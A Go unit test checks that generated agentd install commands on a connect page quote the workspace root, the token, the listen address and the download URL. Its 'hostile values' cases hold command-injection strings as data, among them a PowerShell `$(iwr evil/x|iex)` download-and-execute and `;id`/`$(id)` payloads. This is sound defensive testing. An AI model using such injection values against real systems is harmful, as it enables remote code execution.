package views

import (
	"strings"
	"testing"
)

// TestAgentdCommandsQuoteWhatTheyInterpolate: a workspace root, a token or
// a console address (from a request's Host header) cannot run anything of
// its own in the lines the connect page tells people to paste.
func TestAgentdCommandsQuoteWhatTheyInterpolate(t *testing.T) {
	t.Parallel()
	downloads := []AgentdDownload{
		{Platform: "linux-amd64", URL: "http://gh.example:8080/downloads/agentd/linux-amd64", SHA256: "ab"},
		{Platform: "windows-amd64", URL: "http://gh.example;calc/downloads/agentd/windows-amd64", SHA256: "cd"},
	}
	for _, tc := range []struct {
		name        string
		c           HostConnect
		token       string
		want, never []string
	}{
		{name: "defaults", c: HostConnect{Listen: "0.0.0.0:49984", Root: "$HOME/gatehouse-agentd", WindowsRoot: `$env:USERPROFILE\gatehouse-agentd`, Downloads: downloads},
			token: "tok",
			want:  []string{`curl -fsSLo agentd http://gh.example:8080/downloads/agentd/linux-amd64 `, `AGENTD_TOKEN='tok' ./agentd --listen 0.0.0.0:49984`, `-Force "$env:USERPROFILE\gatehouse-agentd"`, `--root "$env:USERPROFILE\gatehouse-agentd"`, `$env:AGENTD_TOKEN='tok'`}},
		{name: "hostile values", c: HostConnect{Listen: "0.0.0.0:1;id", Root: "'/w'", WindowsRoot: `C:\w$(iwr evil/x|iex)"`, Downloads: downloads},
			token: "a'b$(id)",
			want:  []string{`'C:\w$(iwr evil/x|iex)"'`, `--listen '0.0.0.0:1;id'`, `AGENTD_TOKEN='a'\''b$(id)'`, `$env:AGENTD_TOKEN='a''b$(id)'`, `-OutFile agentd.exe 'http://gh.example;calc/downloads/agentd/windows-amd64'`},
			never: []string{`"C:\w$(`, ` 0.0.0.0:1;id`}},
		{name: "a profile path that asks for more than the profile", c: HostConnect{Listen: "0.0.0.0:1", Root: "/w", WindowsRoot: `$env:USERPROFILE\$(iwr evil)`, Downloads: downloads},
			token: "t", want: []string{`'$env:USERPROFILE\$(iwr evil)'`}, never: []string{`"$env:USERPROFILE\$(`}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var all strings.Builder
			for _, cmd := range AgentdCommands(tc.token, &tc.c) {
				all.WriteString(cmd.Line + "\n")
			}
			for _, w := range tc.want {
				if !strings.Contains(all.String(), w) {
					t.Errorf("the lines lack %s:\n%s", w, all.String())
				}
			}
			for _, n := range tc.never {
				if strings.Contains(all.String(), n) {
					t.Errorf("the lines hold %s:\n%s", n, all.String())
				}
			}
		})
	}
}
